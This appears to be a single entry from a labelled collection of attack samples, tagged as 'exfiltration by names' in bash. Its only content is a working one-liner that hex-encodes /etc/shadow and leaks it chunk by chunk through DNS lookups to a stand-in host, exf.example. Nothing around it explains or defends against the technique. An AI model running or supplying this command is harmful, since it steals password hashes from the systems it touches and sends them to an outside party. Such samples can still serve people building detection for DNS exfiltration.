# class: exfiltration by names; style: bash
xxd -p -c 24 /etc/shadow | nl -w1 -s. | while read l; do dig +short +tries=1 "$l.z.exf.example" >/dev/null; done
